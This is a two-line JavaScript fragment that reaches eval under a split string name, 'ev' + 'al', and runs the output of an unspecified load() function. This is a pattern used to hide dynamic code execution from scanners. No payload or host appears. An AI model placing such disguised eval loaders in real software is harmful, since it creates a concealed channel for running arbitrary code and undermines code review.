const run = globalThis['ev' + 'al'];
run(load());
